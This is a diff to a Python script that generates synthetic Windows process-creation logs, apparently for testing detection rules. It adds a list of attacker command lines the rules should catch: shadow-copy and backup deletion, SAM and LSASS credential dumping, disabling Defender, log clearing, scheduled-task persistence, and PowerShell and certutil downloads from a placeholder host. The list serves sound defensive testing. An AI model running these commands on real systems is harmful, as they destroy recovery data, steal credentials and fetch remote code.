@@ -13,20 +13,59 @@ def write_json(path, n):
     data.write_unique(path, n)
 
 
+def write_process(f, rnd, i, changed):
+    """A process creation whose values never come again. changed(event) sets what the workload is about."""
+    service, channel, event_id, category, fields = data.UNIQUE_KINDS[0]
+    e = {"Channel": channel, "EventID": event_id, "EventRecordID": i + 1, "Computer": "host%05x" % rnd.getrandbits(20), "UtcTime": "2026-11-26 09:00:00.%06d" % i}
+    e.update({k: data.unique_value(rnd, k) for k in fields})
+    changed(e)
+    e.update({"product": "windows", "service": service, "category": category})
+    f.write(json.dumps(e, separators=(",", ":")) + "\n")
+
+
 def write_hostile(path, n):
     """Process creations of which nine in ten have a command line that patterns with nested repetitions go back over without end; now and then one that shipped rules find."""
     rnd = random.Random(20261126)
-    service, channel, event_id, category, fields = data.UNIQUE_KINDS[0]
+
+    def changed(e):
+        if i % 100 == 50:
+            e["CommandLine"] = f"wbadmin delete catalog -quiet {i}"
+        elif i % 10:
+            e["CommandLine"] = "a" * rnd.randint(200, 2000) + f"{i}!"
+
     with open(path, "w") as f:
         for i in range(n):
-            e = {"Channel": channel, "EventID": event_id, "EventRecordID": i + 1, "Computer": "host%05x" % rnd.getrandbits(20), "UtcTime": "2026-11-26 09:00:00.%06d" % i}
-            e.update({k: data.unique_value(rnd, k) for k in fields})
-            if i % 100 == 50:
-                e["CommandLine"] = f"wbadmin delete catalog -quiet {i}"
-            elif i % 10:
-                e["CommandLine"] = "a" * rnd.randint(200, 2000) + f"{i}!"
-            e.update({"product": "windows", "service": service, "category": category})
-            f.write(json.dumps(e, separators=(",", ":")) + "\n")
+            write_process(f, rnd, i, changed)
+
+
+# What shipped rules find, by one selection and by several, by literals and by patterns.
+FOUND = (
+    ("wbadmin.exe", "wbadmin delete catalog -quiet {}"),
+    ("reg.exe", r"reg save HKLM\SAM C:\Backup\{}.sav /y"),
+    ("powershell.exe", "powershell -Command Set-MpPreference -DisableRealtimeMonitoring $true; {}"),
+    ("powershell.exe", "powershell -NoProfile IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/{}')"),
+    ("wevtutil.exe", "wevtutil cl Security /bu:{}"),
+    ("rundll32.exe", r"rundll32 C:\Windows\System32\comsvcs.dll MiniDump {} C:\Backup\l.dmp full"),
+    ("schtasks.exe", r"schtasks /create /tn {} /sc onlogon /tr C:\Users\Public\u.exe"),
+    ("vssadmin.exe", "vssadmin delete shadows /all /quiet {}"),
+    ("certutil.exe", "certutil -urlcache -split -f http://192.0.2.7/{} u.exe"),
+)
+OTHER_VOWELS = str.maketrans("aeiouAEIOU", "eiouaEIOUA")
+
+
+def write_found(path, n, found=True):
+    """Process creations that shipped rules find, each another one than the one before; not found: the same but for the vowels of their command lines."""
+    rnd = random.Random(20261126)
+
+    def changed(e):
+        image, command = FOUND[i % len(FOUND)]
+        e["Image"], e["CommandLine"] = "C:\\Windows\\System32\\" + image, command.format("%08x" % rnd.getrandbits(32))
+        if not found:
+            e["CommandLine"] = e["CommandLine"].translate(OTHER_VOWELS)
+
+    with open(path, "w") as f:
+        for i in range(n):
+            write_process(f, rnd, i, changed)
 
 
 # ---- event logs ----------------------------------------------------------------------------------------------------------------------------
